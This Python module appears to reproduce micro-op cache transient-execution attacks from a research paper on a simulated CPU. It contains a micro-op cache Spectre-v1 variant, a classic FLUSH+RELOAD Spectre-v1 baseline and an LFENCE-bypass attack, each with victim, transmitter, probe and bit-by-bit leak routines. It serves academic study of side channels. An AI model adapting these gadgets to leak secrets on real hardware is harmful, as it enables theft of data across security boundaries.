"""Transient-execution attacks over the micro-op cache (Section VI).

Three attacks live here:

- :class:`UopCacheSpectreV1` -- the paper's variant-1: a bounds-check
  bypass whose disclosure primitive is the micro-op cache.  The
  transiently accessed secret steers a branch to either a tiger or a
  zebra *transmitter*; their fetch footprint survives the squash and
  the attacker reads it with a timed probe, bit by bit.
- :class:`ClassicSpectreV1` -- the baseline for Table II: the original
  Spectre-v1 with a FLUSH+RELOAD data-cache disclosure primitive over
  a 256-slot probe array.
- :class:`LfenceBypass` -- variant-2: a secret-dependent *indirect
  call* whose predicted target is fetched into the micro-op cache
  before dispatch, leaking past an LFENCE (Figure 10); CPUID, which
  stalls fetch itself, is the control that kills the signal.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.core.exploitgen import FootprintSpec, emit_chain, emit_probe, striped_sets
from repro.core.timing import ProbeTiming
from repro.cpu.config import CPUConfig
from repro.cpu.noise import NoiseModel
from repro.isa import encodings as enc
from repro.isa.assembler import Assembler
from repro.lint.gadgets import ChainClaim, PairClaim
from repro.lint.taint import SecretClaim
from repro.session import AttackSession, AttackStats, ChannelReport

RECV_ARENA = 0x44_0000
TTIGER_ARENA = 0x48_0000
TZEBRA_ARENA = 0x4C_0000
CAL_ARENA = 0x54_0000

ARRAY_BYTES = 1024


class UopCacheSpectreV1(AttackSession):
    """Variant-1: bounds-check bypass + micro-op cache disclosure.

    The victim (Listing 4) returns ``array[i]`` after a bounds check
    against a flushable ``array_size``.  Out-of-bounds transient reads
    reach the adjacent ``secret``; the gadget masks out one bit and
    calls a tiger (bit 1) or zebra (bit 0) transmitter whose *fetch*
    leaves the footprint the attacker times.
    """

    def __init__(
        self,
        secret: bytes,
        nsets: int = 8,
        probe_ways: int = 8,
        transmit_ways: int = 4,
        samples: int = 4,
        deep_window: bool = False,
        config: Optional[CPUConfig] = None,
        noise: Optional[NoiseModel] = None,
    ):
        self.secret = secret
        self.nsets = nsets
        self.probe_ways = probe_ways
        self.transmit_ways = transmit_ways
        self.samples = samples
        # deep_window: reach the bound through a flushed pointer
        # indirection (two dependent DRAM misses), roughly doubling the
        # transient window.  Needed when a defense (e.g. invisible
        # speculation) keeps the transiently read secret permanently
        # cold, so the secret-dependent branch resolves late on *every*
        # sample.  Real attacks build such windowing gadgets the same
        # way (Section II-E's "windowing gadget").
        self.deep_window = deep_window
        config = config or CPUConfig.skylake()
        # An attacker characterises the machine first: under
        # privilege-level partitioning, user code sees half the sets,
        # and the tiger/zebra geometry adapts (the paper's point that
        # partitioning does not stop this same-privilege attack).
        self.effective_sets = config.uop_cache_sets
        if config.privilege_partition_uop_cache:
            self.effective_sets //= 2
        super().__init__(config, noise)

    # ------------------------------------------------------------------

    def build_program(self):
        total = self.effective_sets
        nsets = min(self.nsets, total // 2)
        tiger_sets = striped_sets(nsets, total_sets=total)
        stride = total // nsets
        zebra_sets = striped_sets(
            nsets, offset=max(1, stride // 2), total_sets=total
        )
        asm = Assembler()
        asm.reserve("probe_result", 8)
        # array and secret must be adjacent: an out-of-bounds index
        # i >= ARRAY_BYTES transiently reads the secret.
        array_addr = asm.reserve(
            "array", ARRAY_BYTES + len(self.secret) + 64, align=64
        )
        asm.label_at("secret", array_addr + ARRAY_BYTES)
        asm.data("array_size", (ARRAY_BYTES).to_bytes(8, "little"))

        # Receiver probe + architectural calibration conflict function.
        probe_spec = FootprintSpec(
            tiger_sets, self.probe_ways, RECV_ARENA, total_sets=total
        )
        cal_spec = FootprintSpec(
            tiger_sets, self.transmit_ways, CAL_ARENA, total_sets=total
        )
        emit_probe(asm, "probe", probe_spec, "probe_result")
        emit_chain(asm, "cal_conflict", cal_spec)
        # Transient transmitters (callable, return).  Unlike the
        # attacker's probes, these must be *cheap to fetch* so the
        # whole footprint lands inside the transient window: one NOP
        # per region and no length-changing prefixes.
        tiger_spec = FootprintSpec(
            tiger_sets, self.transmit_ways, TTIGER_ARENA,
            nops_per_region=1, lcp_per_nop=0, jmp_lcp=0,
            total_sets=total,
        )
        zebra_spec = FootprintSpec(
            zebra_sets, self.transmit_ways, TZEBRA_ARENA,
            nops_per_region=1, lcp_per_nop=0, jmp_lcp=0,
            total_sets=total,
        )
        emit_chain(asm, "send_one_t", tiger_spec, exit_kind="ret")
        emit_chain(asm, "send_zero_t", zebra_spec, exit_kind="ret")
        self._claims = [
            ChainClaim("probe", probe_spec, "probe"),
            ChainClaim("cal_conflict", cal_spec, "tiger"),
            ChainClaim("send_one_t", tiger_spec, "tiger"),
            ChainClaim("send_zero_t", zebra_spec, "zebra"),
            PairClaim("send_one_t", "probe", "conflict"),
            PairClaim("cal_conflict", "probe", "conflict"),
            PairClaim("send_zero_t", "probe", "disjoint"),
        ]

        if self.deep_window:
            asm.data("array_size_ptr",
                     asm.resolve("array_size").to_bytes(8, "little"))

        # Victim (Listing 4 + bit-masking transmit gadget).
        # r1 = index, r2 = bit position.
        asm.org(0x40_0040)
        asm.label("victim")
        if self.deep_window:
            asm.emit(enc.mov_imm("r10", asm.resolve("array_size_ptr"),
                                 width=64))
            asm.emit(enc.load("r10", "r10"))
            asm.emit(enc.load("r3", "r10"))
        else:
            asm.emit(enc.mov_imm("r10", asm.resolve("array_size"), width=64))
            asm.emit(enc.load("r3", "r10"))
        asm.emit(enc.cmp_reg("r1", "r3"))
        asm.emit(enc.jcc("ae", "vf_oob"))
        asm.emit(enc.mov_imm("r9", asm.resolve("array"), width=64))
        asm.emit(enc.load("r4", "r9", index="r1", size=1))
        asm.emit(enc.alu("shr", "r4", "r2"))
        asm.emit(enc.alu_imm("and", "r4", 1))
        asm.emit(enc.test_reg("r4", "r4"))
        asm.emit(enc.jcc("z", "vf_zero"))
        asm.emit(enc.call("send_one_t"))
        asm.emit(enc.jmp("vf_done"))
        asm.label("vf_zero")
        asm.emit(enc.call("send_zero_t"))
        asm.label("vf_done")
        asm.emit(enc.ret())
        asm.label("vf_oob")
        asm.emit(enc.ret())

        # Attacker stubs.
        asm.align(64)
        asm.label("invoke_victim")
        asm.emit(enc.call("victim"))
        asm.emit(enc.halt())
        asm.align(64)
        asm.label("flush_size")
        asm.emit(enc.mov_imm("r13", asm.resolve("array_size"), width=64))
        asm.emit(enc.clflush("r13"))
        if self.deep_window:
            asm.emit(enc.mov_imm("r13", asm.resolve("array_size_ptr"),
                                 width=64))
            asm.emit(enc.clflush("r13"))
        asm.emit(enc.halt())

        # The secret lives in data adjacent to the array; the bounds
        # bypass makes the masked bit steer the tiger/zebra call, so
        # the taint preflight must see both transmitters as
        # secret-dependent fetch.
        self._claims += [
            SecretClaim(
                name="secret", entry="victim", label="secret",
                size=len(self.secret) or 1, leaks_to=("dsb", "itlb"),
            )
        ]

        prog = asm.assemble(entry="probe")
        return prog

    #: Public in-bounds indices with known values, used for training
    #: and for calibrating the classifier on the *full* attack flow.
    TRAIN_INDEX = 16  # array[16] == 0x00
    CAL_ONE_INDEX = 17  # array[17] == 0xFF

    def _install_data(self) -> None:
        base = self.core.addr_of("secret")
        for i, byte in enumerate(self.secret):
            self.core.write_mem(base + i, byte, size=1)
        self.core.write_mem(
            self.core.addr_of("array") + self.CAL_ONE_INDEX, 0xFF, size=1
        )

    def _train(self, rounds: int = 2) -> None:
        for _ in range(rounds):
            self._call("invoke_victim", regs={"r1": self.TRAIN_INDEX, "r2": 0})

    def _episode(self, index: int, bit: int) -> int:
        """One prime/flush/victim/probe round; returns the probe time."""
        self._train()
        self._call("probe")  # prime
        self._call("flush_size")
        self._call("invoke_victim", regs={"r1": index, "r2": bit})
        return self._probe_time()

    def secret_episode(self, bit: int) -> None:
        """One out-of-bounds episode on ``secret[0] = bit`` (lint's
        XC004 differential)."""
        self.setup()
        self._install_data()
        self.core.write_mem(self.core.addr_of("secret"), bit, size=1)
        self._episode(ARRAY_BYTES, 0)

    def calibrate(self, rounds: int = 8) -> ProbeTiming:
        """Calibrate on the full attack flow using *public* in-bounds
        array values whose bits the attacker knows -- exercising the
        exact code paths (including victim-code cache pollution) that
        real attack episodes will."""
        self._install_data()
        hits, misses = [], []
        for _ in range(rounds):
            hits.append(self._episode(self.TRAIN_INDEX, 0))  # value 0x00
            misses.append(self._episode(self.CAL_ONE_INDEX, 0))  # value 0xFF
        return self._fit(hits, misses)

    def leak_bit(self, byte_index: int, bit: int) -> int:
        """Leak one bit of ``secret[byte_index]`` transiently."""
        if self.classifier is None:
            self.calibrate()
        oob_index = ARRAY_BYTES + byte_index
        # Warm-up episode: the first transient access pulls the secret
        # into the L1D so later episodes resolve the secret-dependent
        # branch inside the transient window.
        self._episode(oob_index, bit)
        samples = []
        for _ in range(self.samples):
            samples.append(self._episode(oob_index, bit))
        return self.classifier.vote(samples)

    def leak(self, nbytes: Optional[int] = None) -> AttackStats:
        """Leak the whole secret bit by bit; returns Table-II stats."""
        if self.classifier is None:
            self.calibrate()
        return self._leak(nbytes, 1, self.leak_bit)

    def channel_report(self, stats: AttackStats) -> ChannelReport:
        """Express an attack run in Table-I channel terms."""
        return ChannelReport(
            bits_sent=len(stats.secret) * 8,
            bit_errors=stats.bit_errors,
            total_cycles=stats.total_cycles,
            freq_ghz=stats.freq_ghz,
            payload_bytes=len(stats.secret),
            timing=self.timing,
        )


class ClassicSpectreV1(AttackSession):
    """The original Spectre-v1 with a FLUSH+RELOAD LLC disclosure
    primitive (Table II's baseline).

    ``lfence=True`` inserts Intel's recommended fence after the bounds
    check, which *does* defeat this attack (and does not defeat
    variant-2 -- the asymmetry Figure 10 demonstrates).
    """

    STRIDE = 512

    def __init__(
        self,
        secret: bytes,
        rounds_per_byte: int = 2,
        lfence: bool = False,
        config: Optional[CPUConfig] = None,
        noise: Optional[NoiseModel] = None,
    ):
        self.secret = secret
        self.rounds_per_byte = rounds_per_byte
        self.lfence = lfence
        super().__init__(config or CPUConfig.skylake(), noise)

    def build_program(self):
        asm = Assembler()
        probe_bytes = 256 * self.STRIDE
        asm.reserve("reload_results", 256 * 8)
        array_addr = asm.reserve(
            "array1", ARRAY_BYTES + len(self.secret) + 64, align=64
        )
        asm.label_at("secret", array_addr + ARRAY_BYTES)
        asm.data("array_size", (ARRAY_BYTES).to_bytes(8, "little"))
        asm.reserve("array2", probe_bytes, align=4096)

        # Victim: y = array2[array1[i] * 512] behind a bounds check.
        asm.label("victim")
        asm.emit(enc.mov_imm("r10", asm.resolve("array_size"), width=64))
        asm.emit(enc.load("r3", "r10"))
        asm.emit(enc.cmp_reg("r1", "r3"))
        asm.emit(enc.jcc("ae", "v_oob"))
        if self.lfence:
            asm.emit(enc.lfence())
        asm.emit(enc.mov_imm("r9", asm.resolve("array1"), width=64))
        asm.emit(enc.load("r4", "r9", index="r1", size=1))
        asm.emit(enc.alu_imm("shl", "r4", 9))
        asm.emit(enc.mov_imm("r8", asm.resolve("array2"), width=64))
        asm.emit(enc.load("r5", "r8", index="r4"))
        asm.label("v_oob")
        asm.emit(enc.ret())

        asm.align(64)
        asm.label("invoke_victim")
        asm.emit(enc.call("victim"))
        asm.emit(enc.halt())

        # Flush loop: clflush every probe slot, then array_size.
        asm.align(64)
        asm.label("flush_all")
        asm.emit(enc.mov_imm("r10", 0))
        asm.emit(enc.mov_imm("r11", asm.resolve("array2"), width=64))
        asm.label("fl_top")
        asm.emit(enc.clflush("r11"))
        asm.emit(enc.alu_imm("add", "r11", self.STRIDE))
        asm.emit(enc.alu_imm("add", "r10", 1))
        asm.emit(enc.cmp_imm("r10", 256))
        asm.emit(enc.jcc("b", "fl_top"))
        asm.emit(enc.mov_imm("r13", asm.resolve("array_size"), width=64))
        asm.emit(enc.clflush("r13"))
        asm.emit(enc.halt())

        # Reload loop: time a load of every slot, store the latencies.
        asm.align(64)
        asm.label("reload_all")
        asm.emit(enc.mov_imm("r10", 0))  # slot index
        asm.emit(enc.mov_imm("r11", asm.resolve("array2"), width=64))
        asm.emit(enc.mov_imm("r12", asm.resolve("reload_results"), width=64))
        asm.label("rl_top")
        asm.emit(enc.rdtsc("r14"))
        # Data-dependency serialisation (the classic FLUSH+RELOAD
        # idiom): derive a zero from the timestamp and fold it into
        # the load address, so the load cannot issue before RDTSC and
        # the closing RDTSC cannot read before the load completes.
        asm.emit(enc.mov("r7", "r14"))
        asm.emit(enc.alu_imm("and", "r7", 0))
        asm.emit(enc.load("r5", "r11", index="r7", size=1))
        asm.emit(enc.rdtsc("r15"))
        asm.emit(enc.alu("sub", "r15", "r14"))
        asm.emit(enc.store("r15", "r12"))
        asm.emit(enc.alu_imm("add", "r11", self.STRIDE))
        asm.emit(enc.alu_imm("add", "r12", 8))
        asm.emit(enc.alu_imm("add", "r10", 1))
        asm.emit(enc.cmp_imm("r10", 256))
        asm.emit(enc.jcc("b", "rl_top"))
        asm.emit(enc.halt())

        # Classic v1 is a pure data channel: the secret reaches a load
        # *address* (TA003) but never a branch, so no fetch structure
        # (DSB/iTLB) or store site is secret-dependent -- the contrast
        # case for the µop-cache variant above.
        self._claims = [
            SecretClaim(
                name="secret", entry="victim", label="secret",
                size=len(self.secret) or 1, leaks_to=(),
            )
        ]

        return asm.assemble(entry="invoke_victim")

    def _install_secret(self) -> None:
        base = self.core.addr_of("secret")
        for i, byte in enumerate(self.secret):
            self.core.write_mem(base + i, byte, size=1)

    def secret_episode(self, bit: int) -> None:
        """One train/flush/out-of-bounds/reload round on ``secret[0] =
        bit`` (lint's XC004 differential).  Classic v1 leaks through the
        data cache only: the taint prediction is empty, and so must be
        the fill divergence."""
        self.setup()
        self._install_secret()
        self.core.write_mem(self.core.addr_of("secret"), bit, size=1)
        self._call("invoke_victim", regs={"r1": 16})  # in-bounds train
        self._call("flush_all")
        self._call("invoke_victim", regs={"r1": ARRAY_BYTES})
        self._call("reload_all")

    def leak_byte(self, byte_index: int) -> int:
        """Recover one secret byte via FLUSH+RELOAD."""
        self._install_secret()
        oob = ARRAY_BYTES + byte_index
        best = 0
        for _ in range(self.rounds_per_byte):
            self._call("invoke_victim", regs={"r1": 16})  # train
            self._call("invoke_victim", regs={"r1": 16})
            self._call("flush_all")
            self._call("invoke_victim", regs={"r1": oob})
            self._call("reload_all")
            base = self.core.addr_of("reload_results")
            times = [
                self._elapsed(base + 8 * k) or (1 << 62)
                for k in range(256)
            ]
            best = min(range(256), key=lambda k: times[k])
        return best

    def leak(self, nbytes: Optional[int] = None) -> AttackStats:
        """Leak the secret byte by byte; returns Table-II stats."""
        return self._leak(nbytes, 8, lambda k, _: self.leak_byte(k))


@dataclass
class FenceSignal:
    """Figure 10 measurement for one synchronisation primitive."""

    fence: str  # "none" | "lfence" | "cpuid"
    timing: ProbeTiming

    @property
    def signal(self) -> float:
        """Mean probe-time separation between secret=1 and secret=0."""
        return self.timing.delta


class LfenceBypass(AttackSession):
    """Variant-2: leaking through a fence via a predicted indirect call.

    The victim authorises the caller, then makes a secret-dependent
    indirect call.  Legitimate (authorised) executions train the
    indirect predictor with the secret-correlated target; a later
    *unauthorised* call runs transiently up to the fence -- but the
    front end still fetches the predicted call target, leaving its
    footprint in the micro-op cache before any dispatch happens.
    """

    def __init__(
        self,
        nsets: int = 8,
        probe_ways: int = 8,
        target_ways: int = 4,
        config: Optional[CPUConfig] = None,
        noise: Optional[NoiseModel] = None,
    ):
        self.nsets = nsets
        self.probe_ways = probe_ways
        self.target_ways = target_ways
        super().__init__(config or CPUConfig.skylake(), noise)

    def setup(self) -> None:
        # Function-pointer table: resolved after assembly (and after
        # every reset, which re-images data memory).
        table = self.core.addr_of("fun_table")
        self.core.write_mem(table, self.core.addr_of("target_zero"))
        self.core.write_mem(table + 8, self.core.addr_of("target_one"))

    def build_program(self):
        tiger_sets = striped_sets(self.nsets)
        stride = 32 // self.nsets
        zebra_sets = striped_sets(self.nsets, offset=max(1, stride // 2))
        asm = Assembler()
        asm.reserve("probe_result", 8)
        asm.reserve("auth_table", 16)  # id 0 authorised, id 1 not
        asm.reserve("secret2", 8)
        asm.reserve("fun_table", 16)

        probe_spec = FootprintSpec(tiger_sets, self.probe_ways, RECV_ARENA)
        one_spec = FootprintSpec(tiger_sets, self.target_ways, TTIGER_ARENA)
        zero_spec = FootprintSpec(zebra_sets, self.target_ways, TZEBRA_ARENA)
        emit_probe(asm, "probe", probe_spec, "probe_result")
        emit_chain(asm, "target_one", one_spec, exit_kind="ret")
        emit_chain(asm, "target_zero", zero_spec, exit_kind="ret")
        self._claims = [
            ChainClaim("probe", probe_spec, "probe"),
            ChainClaim("target_one", one_spec, "tiger"),
            ChainClaim("target_zero", zero_spec, "zebra"),
            PairClaim("target_one", "probe", "conflict"),
            PairClaim("target_zero", "probe", "disjoint"),
        ]

        for fence in ("nf", "lf", "cp"):
            asm.align(64)
            asm.label(f"victim_{fence}")
            asm.emit(enc.mov_imm("r10", asm.resolve("auth_table"), width=64))
            asm.emit(enc.load("r3", "r10", index="r1", scale=8))
            asm.emit(enc.cmp_imm("r3", 1))
            asm.emit(enc.jcc("nz", f"v2_fail_{fence}"))
            if fence == "lf":
                asm.emit(enc.lfence())
            elif fence == "cp":
                asm.emit(enc.cpuid())
            asm.emit(enc.mov_imm("r9", asm.resolve("secret2"), width=64))
            asm.emit(enc.load("r4", "r9"))
            asm.emit(enc.alu_imm("shl", "r4", 3))
            asm.emit(enc.mov_imm("r8", asm.resolve("fun_table"), width=64))
            asm.emit(enc.load("r5", "r8", index="r4"))
            asm.emit(enc.call_ind("r5"))
            asm.label(f"v2_fail_{fence}")
            asm.emit(enc.ret())

            asm.align(64)
            asm.label(f"invoke_{fence}")
            asm.emit(enc.call(f"victim_{fence}"))
            asm.emit(enc.halt())

        asm.align(64)
        asm.label("flush_auth")
        asm.emit(enc.mov_imm("r13", asm.resolve("auth_table") + 8, width=64))
        asm.emit(enc.clflush("r13"))
        asm.emit(enc.halt())

        # secret2 steers an indirect call through fun_table; the table
        # is written post-assembly (setup()), so the claim names the
        # possible landing sites explicitly.
        self._claims += [
            SecretClaim(
                name="secret2", entry=f"victim_{fence}", label="secret2",
                indirect_targets=("target_zero", "target_one"),
                leaks_to=("dsb", "itlb"),
            )
            for fence in ("nf", "lf", "cp")
        ]

        return asm.assemble(entry="probe")

    # ------------------------------------------------------------------

    def _set_secret(self, bit: int) -> None:
        self.core.write_mem(self.core.addr_of("secret2"), bit)
        auth = self.core.addr_of("auth_table")
        self.core.write_mem(auth, 1)  # id 0 authorised
        self.core.write_mem(auth + 8, 0)  # id 1 not

    def attack_once(self, fence: str, secret_bit: int,
                    train_rounds: int = 3) -> int:
        """One full episode; returns the attacker's probe time."""
        self._set_secret(secret_bit)
        for _ in range(train_rounds):
            self._call(f"invoke_{fence}", regs={"r1": 0})  # legit caller
        self._call("probe")  # prime
        self._call("probe")
        self._call("flush_auth")
        self._call(f"invoke_{fence}", regs={"r1": 1})  # unauthorised
        return self._probe_time()

    def secret_episode(self, bit: int) -> None:
        """One unfenced episode with one training call (lint's XC004
        differential)."""
        self.setup()
        self.attack_once("nf", bit, train_rounds=1)

    def measure(self, fence: str, rounds: int = 8) -> FenceSignal:
        """Collect the probe-time distributions for secret 1 vs 0."""
        ones, zeros = [], []
        for _ in range(rounds):
            zeros.append(self.attack_once(fence, 0))
            ones.append(self.attack_once(fence, 1))
        return FenceSignal(fence, ProbeTiming(zeros, ones))
